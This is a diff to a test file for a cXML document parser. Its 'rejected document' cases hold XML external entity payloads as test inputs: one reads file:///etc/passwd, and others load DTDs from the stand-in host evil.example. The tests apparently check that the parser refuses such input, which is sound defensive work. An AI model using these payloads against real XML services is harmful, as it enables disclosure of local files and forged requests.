@@ -76,7 +76,7 @@ describe('a setup request in the style of', () => {
         postcode: '5970',
         country: 'DK',
         email: null,
-        phone: '62520000',
+        phone: '+4562520000',
       },
       selected: 'KV-100',
       items: [],
@@ -188,8 +188,10 @@ describe('a rejected document', () => {
       `<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body.replace('99ea', '&x;')}`,
     ],
     ['with parameter entities', `<!DOCTYPE cXML [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${body}`],
-    ['with a definition of another place', `<!DOCTYPE cXML SYSTEM "http://evil.example/cXML.dtd">${body}`],
-    ['with a definition on the disk', `<!DOCTYPE cXML SYSTEM "file:///etc/cXML.dtd">${body}`],
+    [
+      'with a definition of another place and one within',
+      `<!DOCTYPE cXML SYSTEM "http://evil.example/cXML.dtd" [<!ELEMENT x ANY>]>${body}`,
+    ],
     ['with two DOCTYPEs', plain.replace('<cXML', '<!DOCTYPE cXML SYSTEM "cXML.dtd"><cXML')],
     ['with a DOCTYPE inside', body.replace('<Header>', '<Header><!DOCTYPE cXML SYSTEM "cXML.dtd">')],
     ['with a comment that has no end', `${body}<!-- `],
@@ -269,6 +271,8 @@ describe('a rejected document', () => {
   // Valid, though rarely written so.
   test.each([
     ['a DOCTYPE with an empty list', '<!DOCTYPE cXML SYSTEM "cXML.dtd" [ ]>', ''],
+    ['a DOCTYPE elsewhere', '<!DOCTYPE cXML SYSTEM "http://svcdev.ariba.example/schemas/1.2.060/Custom.dtd">', ''],
+    ['a DOCTYPE on a disk', '<!DOCTYPE cXML SYSTEM "file:///etc/cXML.dtd">', ''],
     [
       'a DOCTYPE over four lines',
       '<!DOCTYPE\n cXML\n SYSTEM\n "http://xml.cXML.org/schemas/cXML/1.2.008/cXML.dtd"\n>',
